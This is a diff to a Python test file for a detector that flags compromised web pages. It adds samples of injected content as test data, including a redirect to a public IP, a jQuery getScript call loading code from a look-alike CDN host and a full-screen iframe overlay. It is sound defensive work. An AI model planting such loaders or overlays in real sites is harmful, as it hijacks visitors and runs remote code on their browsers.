@@ -394,12 +394,12 @@ def test_packed_payloads_are_unpacked():
 
 
 def test_unknown_script_outside_html_and_known_ones_there():
-    after = BASE + '<script src="https://js.tongji-center.com/count.js"></script>'
+    after = BASE + '<script src="https://js.statcenter-cn.com/count.js"></script>'
     assert "injected-script" in compromise(outcome(after.format("").encode()))
     cnzz = BASE + '<script src="https://s4.cnzz.com/z_stat.php?id=1&web_id=1"></script>'
     assert compromise(outcome(cnzz.format("").encode())) == set()
     # in the page, an unknown host with no suspicious trait is not judged without a baseline
-    plain = BASE.format('<script src="https://js.tongji-center.com/count.js"></script>')
+    plain = BASE.format('<script src="https://js.statcenter-cn.com/count.js"></script>')
     assert compromise(outcome(plain.encode())) == set()
 
 
@@ -481,3 +481,21 @@ def test_a_hostile_3_mib_page_stays_cheap():
         compromise(outcome(page))
         # generous: a hostile page costs under 0.3 s here, a normal one 10 ms
         assert time.process_time() - start < 3.0
+
+
+def test_intranet_addresses_are_the_organisations_own():
+    oa = '<script>window.location.href="http://192.168.1.10:8080/seeyon/index.jsp";</script>'
+    assert compromise(outcome(BASE.format(oa).encode())) == set()
+    public = '<script>window.location.href="http://154.23.11.5:8080/a.html";</script>'
+    assert "injected-script" in compromise(outcome(BASE.format(public).encode()))
+
+
+def test_jquery_getscript_and_full_page_iframes_are_loaders():
+    get = '<script>$.getScript("https://cdn.jquery-cdn.top/a.js")</script>'
+    assert "injected-script" in compromise(outcome(BASE.format(get).encode()))
+    cdn = '<script>$.getScript("https://cdn.bootcdn.net/ajax/libs/jquery.min.js")</script>'
+    assert compromise(outcome(BASE.format(cdn).encode())) == set()
+    overlay = '<iframe src="http://am8899.com/" style="position:fixed;width:100%;height:100%">'
+    assert "injected-script" in compromise(outcome(BASE.format(overlay).encode()))
+    video = '<iframe src="https://player.youku.com/embed/x" width="640" height="360"></iframe>'
+    assert compromise(outcome(BASE.format(video).encode())) == set()
